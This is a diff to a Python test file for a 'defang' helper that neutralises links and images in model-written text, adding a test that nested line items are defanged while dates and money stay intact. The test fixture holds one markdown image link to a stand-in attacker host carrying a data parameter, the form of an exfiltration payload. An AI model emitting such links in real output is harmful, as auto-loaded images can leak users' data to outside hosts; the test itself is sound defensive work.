@@ -1,10 +1,14 @@
 """Addresses that the model made up open nothing."""
 
+from datetime import date
+from decimal import Decimal
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from homebody.actions.defang import defang, defanged, printable
+from homebody.money import Money
 
 SOURCE = (
     "Read [it](https://good.example/plan), ![](https://good.example/a.png), <b>write</b> to a@good.example."
@@ -88,3 +92,10 @@ def test_printable_text_has_no_controls(text: str) -> None:
     after = printable(text)
     after.encode()
     assert not any(ord(c) < 32 and c not in "\n\t" for c in after)
+
+
+def test_the_parts_of_small_objects_are_defanged_and_the_rest_stays() -> None:
+    """A line item's text is as suspect as any; dates, money and flags are no text."""
+    money, day = Money(Decimal("1.50"), "EUR"), date(2026, 3, 2)
+    found = defanged({"lines": [{"what": "![x](https://evil.example/?d=1)", "due": day}], "total": money}, "")
+    assert {"lines": [{"what": "x (hxxps://evil[.]example/?d=1)", "due": day}], "total": money} == found
